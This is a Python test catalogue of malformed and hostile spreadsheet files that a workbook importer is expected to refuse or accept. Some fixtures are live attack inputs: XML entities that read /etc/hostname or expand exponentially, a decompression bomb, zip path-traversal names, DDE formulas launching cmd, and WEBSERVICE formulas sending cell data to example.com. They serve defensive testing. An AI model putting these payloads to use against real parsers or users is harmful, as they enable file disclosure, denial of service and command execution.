"""Files that are no workbook, or that only an attacker, a broken disk or another program makes."""

import io
import struct
import zipfile
from dataclasses import dataclass
from typing import Any
from xml.etree import ElementTree as ET

from tests.catalogue.entry import ACCEPTED, NOTED, REFUSED
from tests.catalogue.surgery import BOOK, MAIN, OFFICE, TYPES
from tests.catalogue.week import base_content, opened
from tests.workbook.strange import flipped, lying, overlapping

MAIN_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
ENTITY, FILE = '<!DOCTYPE x [<!ENTITY e "boo">]>', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>'
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'


@dataclass(frozen=True)
class FileEntry:
    """One kind of file: how it is made, what becomes of it, and a word of the sentence that says so."""

    name: str
    says: str
    make: Any
    verdict: str
    word: str = ""
    adds: tuple[str, ...] = ()


def edited(*changes):
    """The sound workbook after changes to its parts."""

    def make():
        book = opened()
        for change in changes:
            change(book)
        return book.content()

    return make


def readings(book):
    """The part with the sheet of readings."""
    return book.part_of("Readings")


def declared(part, text):
    """A document type before the root of a part."""

    def change(book):
        name = readings(book) if part is None else part
        whole = book.text(name)
        start = whole.index("?>") + 2 if whole.startswith("<?xml") else 0
        book._trees.pop(name, None)
        book.parts[name] = (whole[:start] + text + whole[start:]).encode()

    return change


def of_type(kind):
    """The main part of another kind."""
    return edited(lambda book: book.replace(TYPES, MAIN_TYPE, kind))


def more_parts(*parts):
    """Further parts in the zip."""

    def make():
        stream = io.BytesIO(base_content())
        with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as book:
            for name, content in parts:
                book.writestr(name, content)
        return stream.getvalue()

    return make


def pointing(kind, target="../x.bin", mode="Internal"):
    """A pointer of the readings' sheet to something else."""

    def change(book):
        name = readings(book).replace("worksheets/", "worksheets/_rels/") + ".rels"
        pointer = f'<Relationship Id="rIdX" Type="{kind}" Target="{target}" TargetMode="{mode}"/>'
        book.replace(name, "</Relationships>", f"{pointer}</Relationships>")

    return edited(change)


def office(kind, *more):
    """A pointer of Office's own kinds."""
    return pointing(f"{OFFICE}/{kind}", *more)


def formula(text):
    """A formula in a cell of remarks."""
    return edited(lambda book: book.put("Readings", "AA3", None, f=text, v="0"))


def whole(change):
    """The letters of the readings' sheet changed."""

    def change_part(book):
        name = readings(book)
        text = book.text(name)
        book._trees.pop(name, None)
        new = change(text)
        assert new != text
        book.parts[name] = new if isinstance(new, bytes) else new.encode()

    return edited(change_part)


def in_sheet(old, new):
    """Other letters in the readings' sheet."""
    return edited(lambda book: book.replace(readings(book), old, new))


def upside_down(book):
    """A row stored in front of the one above it."""
    data = book.rows("Readings")
    data[3], data[4] = data[4], data[3]


def cell_twice(book):
    """One cell twice in its row."""
    row = book.row("Readings", 3)
    row.insert(1, row[0])


def row_twice(book):
    """One row twice."""
    data = book.rows("Readings")
    data.insert(3, data[2])


def empty_rows(count, first=100):
    """Rows with a format and nothing in them."""
    rows = "".join(
        f'<row r="{n}" s="1" customFormat="1"><c r="A{n}" s="1"/></row>' for n in range(first, first + count)
    )
    return in_sheet("</sheetData>", rows + "</sheetData>")


def other_zip(name, content, *more):
    """A zip of something else."""

    def make():
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w") as book:
            for each, text in ((name, content), *more):
                book.writestr(each, text)
        return stream.getvalue()

    return make


def workbook_in_a_zip():
    """The workbook within a zip."""
    return other_zip("week.xlsx", base_content())()


def many_parts():
    """Fifty thousand parts."""
    return more_parts(*((f"xl/x{n}.xml", b"") for n in range(50_000)))()


def bomb():
    """A part that swells a thousandfold."""
    return more_parts(("xl/media/x.xml", b"<a>" + b" " * 80_000_000 + b"</a>"))()


def two_ends():
    """Two workbooks one after the other."""
    return base_content() + base_content()


def in_encoding(name):
    """The readings' sheet in another encoding of XML."""
    return whole(lambda text: f'<?xml version="1.0" encoding="{name}"?>{text}'.encode(name))


def other_names(book):
    """The sheet's elements with a prefix, as other programs write them."""
    root = book.sheet("Readings")
    text = ET.tostring(root, encoding="unicode")
    text = text.replace("<", "<x:").replace("<x:/", "</x:").replace("<x:?", "<?").replace("xmlns=", "xmlns:x=")
    book._trees.pop(readings(book))
    book.parts[readings(book)] = text.encode()


def without_addresses(book):
    """Rows without their numbers and cells without theirs, where nothing is skipped."""
    for row in book.rows("Firm"):
        cells = list(row)
        if [each.get("r") for each in cells] == [f"{chr(65 + n)}{row.get('r')}" for n in range(len(cells))]:
            for each in cells:
                del each.attrib["r"]


def encrypted_flag():
    """Parts that claim to be locked."""
    data = bytearray(base_content())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(mark)
        flags = struct.unpack_from("<H", data, place + at)[0]
        struct.pack_into("<H", data, place + at, flags | 1)
    return bytes(data)


def zeroed_half():
    """The second half never reached the disk."""
    content = base_content()
    return content[: len(content) // 2] + bytes(len(content) - len(content) // 2)


def old_format(extra=b""):
    """The head of the old container format."""
    return bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600) + extra


def put(address, **raw):
    """Letters of the XML in a cell of the readings."""
    return edited(lambda book: book.put("Readings", address, None, **raw))


WEB = "http://schemas.microsoft.com/office/2007/relationships"
ENTRIES = [
    FileEntry("no-bytes", "Nothing in the file.", lambda: b"", REFUSED, "empty"),
    FileEntry("end-missing", "The last bytes missing.", lambda: base_content()[:-30], REFUSED, "incomplete"),
    FileEntry(
        "half-missing", "Half of the file.", lambda: base_content()[: len(base_content()) // 2], REFUSED, "incomplete"
    ),
    FileEntry("half-zeroed", "The right size, the second half empty.", zeroed_half, REFUSED, "incomplete"),
    FileEntry("old-excel", "The format before this one.", old_format, REFUSED, ".xls"),
    FileEntry(
        "password", "A password.", lambda: old_format("EncryptedPackage".encode("utf-16-le")), REFUSED, "password"
    ),
    FileEntry("list", "A list in plain text.", lambda: b"Job;Zs\nLN-101;0,28\n", REFUSED, "CSV"),
    FileEntry(
        "list-with-mark",
        "A list in plain text with a byte-order mark.",
        lambda: b"\xef\xbb\xbfJob,Zs\r\nLN-101,0.28\r\n",
        REFUSED,
        "text",
    ),
    FileEntry("web-page", "A web page.", lambda: b"<html><table><tr><td>LN-101</table>", REFUSED, "web page"),
    FileEntry(
        "xml-2003",
        "The XML format of 2003.",
        lambda: b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook/>',
        REFUSED,
        "XML",
    ),
    FileEntry("pdf", "A PDF.", lambda: b"%PDF-1.7\n%\xe2\xe3", REFUSED, "PDF"),
    FileEntry("picture", "A picture of the sheet.", lambda: b"\xff\xd8\xff\xe0" + bytes(100), REFUSED, "picture"),
    FileEntry("compressed", "A compressed file.", lambda: b"\x1f\x8b\x08" + bytes(100), REFUSED, "compressed"),
    FileEntry(
        "seven-zip", "An archive of another kind.", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(100), REFUSED, "compressed"
    ),
    FileEntry("noise", "Bytes of no kind.", lambda: bytes(range(256)) * 8, REFUSED, "not an Excel workbook"),
    FileEntry(
        "binary-workbook",
        "A binary workbook.",
        of_type("application/vnd.ms-excel.sheet.binary.macroEnabled.main"),
        REFUSED,
        ".xlsb",
    ),
    FileEntry(
        "macro-workbook",
        "A workbook with macros.",
        of_type("application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        REFUSED,
        "macros",
    ),
    FileEntry(
        "template",
        "A template.",
        of_type("application/vnd.openxmlformats-officedocument.spreadsheetml.template.main+xml"),
        REFUSED,
        "template",
    ),
    FileEntry(
        "open-document",
        "An OpenDocument sheet.",
        other_zip("mimetype", "application/vnd.oasis.opendocument.spreadsheet"),
        REFUSED,
        ".ods",
    ),
    FileEntry(
        "word",
        "A Word document.",
        of_type("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"),
        REFUSED,
        ".docx",
    ),
    FileEntry("bare-zip", "A zip of photos.", other_zip("a.jpg", b"x"), REFUSED, "zip"),
    FileEntry(
        "workbook-in-a-zip",
        "The workbook within a zip.",
        workbook_in_a_zip,
        REFUSED,
        "zip",
    ),
    FileEntry("two-workbooks", "Two files one after the other.", two_ends, REFUSED, "in front"),
    FileEntry(
        "bit-in-properties",
        "One bit turned over in a part that nobody reads.",
        lambda: flipped(base_content(), "docProps/app.xml"),
        NOTED,
        adds=("file_is_whole note",),
    ),
    FileEntry(
        "bit-in-readings",
        "One bit turned over in the readings.",
        lambda: flipped(base_content(), readings(opened())),
        REFUSED,
        "damaged",
    ),
    FileEntry(
        "lying-size", "A part larger than it says.", lambda: lying(base_content(), readings(opened())), REFUSED, ""
    ),
    FileEntry("overlapping", "Parts that share bytes.", lambda: overlapping(base_content()), REFUSED, ""),
    FileEntry("swelling", "A part that swells when opened.", bomb, REFUSED, "swell"),
    FileEntry("path-outside", "A part that leads outside.", more_parts(("../../evil.txt", b"x")), REFUSED, "outside"),
    FileEntry("path-absolute", "A part with a whole path.", more_parts(("/etc/x", b"x")), REFUSED, "outside"),
    FileEntry("path-of-windows", "A part with a drive.", more_parts(("C:\\x", b"x")), REFUSED, "outside"),
    FileEntry("part-twice", "One part twice.", more_parts(("XL/workbook.xml", b"<a/>")), REFUSED, "twice"),
    FileEntry("many-parts", "Fifty thousand parts.", many_parts, REFUSED, "parts"),
    FileEntry("locked-parts", "Parts locked with a password.", encrypted_flag, REFUSED, "password"),
    FileEntry("entity-in-readings", "An entity in the readings.", edited(declared(None, ENTITY)), REFUSED, ""),
    FileEntry("file-entity", "An entity that reads a file.", edited(declared(None, FILE)), REFUSED, ""),
    FileEntry(
        "entity-in-properties",
        "An entity in the properties.",
        edited(declared("docProps/core.xml", ENTITY)),
        REFUSED,
        "",
    ),
    FileEntry("entity-in-workbook", "An entity in the main part.", edited(declared(BOOK, ENTITY)), REFUSED, ""),
    FileEntry("entity-in-types", "An entity in the list of parts.", edited(declared(TYPES, ENTITY)), REFUSED, ""),
    FileEntry("entities-of-entities", "Entities within entities.", edited(declared(None, LAUGHS)), REFUSED, ""),
    FileEntry(
        "long-entity",
        "A long entity used again and again.",
        edited(declared(None, f'<!DOCTYPE x [<!ENTITY e "{"x" * 100_000}">]>')),
        REFUSED,
        "",
    ),
    FileEntry(
        "empty-document-type",
        "A document type that does nothing.",
        edited(declared("docProps/app.xml", "<!DOCTYPE x>")),
        REFUSED,
        "",
    ),
    FileEntry("utf-16", "A part in UTF-16.", in_encoding("utf-16"), ACCEPTED),
    FileEntry(
        "byte-order-mark",
        "A part with a byte-order mark.",
        whole(lambda text: b"\xef\xbb\xbf" + text.encode()),
        ACCEPTED,
    ),
    FileEntry(
        "latin-1",
        "A part in another encoding.",
        whole(
            lambda text: f'<?xml version="1.0" encoding="iso-8859-1"?>{text}'.encode("iso-8859-1", "xmlcharrefreplace")
        ),
        ACCEPTED,
    ),
    FileEntry(
        "wrong-dimension",
        "A sheet that says it is smaller.",
        edited(lambda book: book.sheet("Readings").find(f"{{{MAIN}}}dimension").set("ref", "A1:B1")),
        ACCEPTED,
    ),
    FileEntry("rows-upside-down", "A row in front of the one above it.", edited(upside_down), REFUSED, "row"),
    FileEntry("cell-twice", "One cell twice.", edited(cell_twice), REFUSED, "twice"),
    FileEntry("row-twice", "One row twice.", edited(row_twice), REFUSED, "row"),
    FileEntry("formatted-rows", "Ten thousand formatted rows.", empty_rows(10_000), ACCEPTED),
    FileEntry(
        "formatted-columns",
        "All columns formatted.",
        edited(lambda book: [book.cell("Readings", a).set("s", "1") for a in ("XFD3", "XFC3", "ZZ4")]),
        ACCEPTED,
    ),
    FileEntry("prefixed", "Elements with a prefix.", edited(other_names), ACCEPTED),
    FileEntry("without-addresses", "Cells without their addresses.", edited(without_addresses), ACCEPTED),
    FileEntry(
        "outside-picture",
        "A picture from elsewhere.",
        office("image", "http://example.com/x.png", "External"),
        REFUSED,
        "outside",
    ),
    FileEntry("embedded-object", "An embedded object.", office("oleObject"), REFUSED, "embedded object"),
    FileEntry("embedded-package", "An embedded workbook.", office("package"), REFUSED, "embedded object"),
    FileEntry("control", "A control.", office("control"), REFUSED, "control"),
    FileEntry("query-table", "A web query.", office("queryTable"), REFUSED, "query"),
    FileEntry("old-macros", "A sheet of old macros.", pointing(f"{WEB}/xlMacrosheet"), REFUSED, "macros"),
    FileEntry(
        "linked-workbook",
        "A link to another workbook.",
        office("externalLinkPath", "file:///c:/x.xlsx", "External"),
        REFUSED,
        "outside",
    ),
    FileEntry(
        "hyperlink",
        "A mail address that Excel made a link of.",
        office("hyperlink", "mailto:sam@example.com", "External"),
        ACCEPTED,
    ),
    FileEntry("add-in", "An add-in.", office("webextension"), REFUSED, "add-in"),
    FileEntry("dde", "A formula that starts a program.", formula("cmd|'/C calc'!A0"), REFUSED, "starts a program"),
    FileEntry(
        "web-service",
        "A formula that fetches.",
        formula('_xlfn.WEBSERVICE("http://example.com/"&A1)'),
        REFUSED,
        "network",
    ),
    FileEntry(
        "web-service-in-other-letters",
        "The same in other letters.",
        formula('webService ("http://example.com")'),
        REFUSED,
        "network",
    ),
    FileEntry("real-time-data", "A formula for real-time data.", formula('RTD("x",,"y")'), REFUSED, "network"),
    FileEntry(
        "picture-formula",
        "A formula that fetches a picture.",
        formula('_xlfn.IMAGE("http://example.com/x.png")'),
        REFUSED,
        "network",
    ),
    FileEntry(
        "named-formula",
        "A named formula that starts a program.",
        edited(
            lambda book: book.replace(
                BOOK, "</definedNames>", "<definedName name=\"x\">cmd|'/C calc'!A0</definedName></definedNames>"
            )
        ),
        REFUSED,
        "starts a program",
    ),
    FileEntry("text-out-of-range", "A text that the list has not.", put("AA3", t="s", v="99999"), REFUSED, "damaged"),
    FileEntry("text-below-range", "A text before the first.", put("AA3", t="s", v="-1"), REFUSED, "damaged"),
    FileEntry("no-shared-texts", "A text of a list that is not there.", put("AA3", t="s", v="0"), REFUSED, "damaged"),
    FileEntry(
        "no-such-style",
        "A format that the list has not.",
        edited(
            lambda book: book.cell("Readings", "AA3").set("s", "9999"), lambda book: book.put("Readings", "AA3", "x")
        ),
        REFUSED,
        "damaged",
    ),
    FileEntry("nan", "A number that is none.", put("L3", v="NaN"), REFUSED, "damaged"),
    FileEntry("infinite", "A number without end.", put("L3", v="INF"), REFUSED, "damaged"),
    FileEntry("no-such-kind", "A cell of no kind.", put("L3", t="zz", v="1"), REFUSED, "damaged"),
    FileEntry(
        "beyond-the-last-row",
        "A row beyond the last.",
        in_sheet("</sheetData>", '<row r="1048577"><c r="A1048577"><v>1</v></c></row></sheetData>'),
        REFUSED,
        "row",
    ),
    FileEntry(
        "cell-in-another-row",
        "A cell that says it is in another row.",
        in_sheet("</sheetData>", '<row r="90"><c r="A91"><v>1</v></c></row></sheetData>'),
        REFUSED,
        "row",
    ),
    FileEntry(
        "strict",
        "The strict variant of the format.",
        edited(lambda book: book.replace(BOOK, MAIN, "http://purl.oclc.org/ooxml/spreadsheetml/main")),
        REFUSED,
        "Strict",
    ),
    FileEntry(
        "strict-sheet",
        "One sheet in the strict variant, which a common reader takes for an empty one.",
        edited(lambda book: book.replace(readings(book), MAIN, "http://purl.oclc.org/ooxml/spreadsheetml/main")),
        REFUSED,
        "variant",
    ),
    FileEntry(
        "deep-xml",
        "Elements within elements without end.",
        more_parts(("xl/deep.xml", b"<a>" * 200_000 + b"</a>" * 200_000)),
        ACCEPTED,
    ),
    FileEntry("broken-xml", "XML that does not end.", whole(lambda text: text[:-40]), REFUSED, "damaged"),
]
